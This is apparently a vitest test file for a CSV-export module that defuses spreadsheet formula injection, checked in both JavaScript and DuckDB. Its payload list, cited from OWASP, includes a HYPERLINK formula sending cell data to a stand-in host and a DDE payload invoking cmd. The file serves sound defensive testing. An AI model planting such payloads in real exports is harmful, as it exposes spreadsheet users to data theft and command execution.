import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { Db, neutraliseCell, neutraliseSql, neutraliseValue, writeCsv } from './index.ts';

// Payloads from OWASP's CSV-injection page and the issue that reported them.
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  '+1+1',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
];

describe('neutraliseCell', () => {
  it('prefixes a single quote to text that a spreadsheet would take for a formula, keeping the text', () => {
    for (const p of PAYLOADS) expect(neutraliseCell(p), JSON.stringify(p)).toBe(`'${p}`);
  });
  it('leaves ordinary text, Vietnamese and inner formula characters alone', () => {
    for (const t of ['Xã Bảo Hà', '02947', 'a=b', 'x-1', '', ' =1 (space first)', "'=already"]) expect(neutraliseCell(t)).toBe(t);
  });
  it('changes only strings: a negative number stays a number', () => {
    expect(neutraliseValue(-5)).toBe(-5);
    expect(neutraliseValue('-5')).toBe("'-5");
    expect(neutraliseValue(null)).toBeNull();
  });
  it('does the same in DuckDB as in JavaScript', async () => {
    const db = await Db.open();
    try {
      for (const t of [...PAYLOADS, 'Xã Bảo Hà', 'a=b', "'=x"]) {
        const row = await db.one<{ v: string }>(`SELECT ${neutraliseSql('$1::VARCHAR')} AS v`, [t]);
        expect(row?.v, JSON.stringify(t)).toBe(neutraliseCell(t));
      }
      expect((await db.one<{ v: string | null }>(`SELECT ${neutraliseSql('NULL::VARCHAR')} AS v`))?.v).toBeNull();
    } finally {
      db.close();
    }
  });
});

describe('writeCsv', () => {
  it('writes a BOM, neutralises text columns and keeps numeric columns numeric', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'cells-'));
    onTestFinished(() => rmSync(dir, { recursive: true, force: true }));
    const db = await Db.open();
    try {
      await db.run(`CREATE TABLE t (ten VARCHAR, so INTEGER, ty_le DOUBLE)`);
      await db.run(`INSERT INTO t VALUES ('Xã Bảo Hà', -5, -0.5), (?, 3, 1.5), ('-2+3', NULL, NULL)`, [PAYLOADS[0]!]);
      const path = join(dir, 'out.csv');
      const { rows } = await writeCsv(db, 'SELECT * FROM t ORDER BY so NULLS LAST', path);
      expect(rows).toBe(3);
      const bytes = readFileSync(path);
      expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const lines = bytes.subarray(3).toString('utf8').trim().split('\n');
      expect(lines).toEqual([
        'ten,so,ty_le',
        'Xã Bảo Hà,-5,-0.5',
        `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",3,1.5`,
        "'-2+3,,",
      ]);
      // Read back by DuckDB, the values are the neutralised text and the numbers.
      const back = await db.all<{ ten: string; so: number | null }>(`SELECT ten, so FROM read_csv(${`'${path}'`}) ORDER BY so NULLS LAST`);
      expect(back.map((r) => r.so)).toEqual([-5, 3, null]);
      expect(back[1]?.ten).toBe(`'${PAYLOADS[0]}`);
    } finally {
      db.close();
    }
  });
});
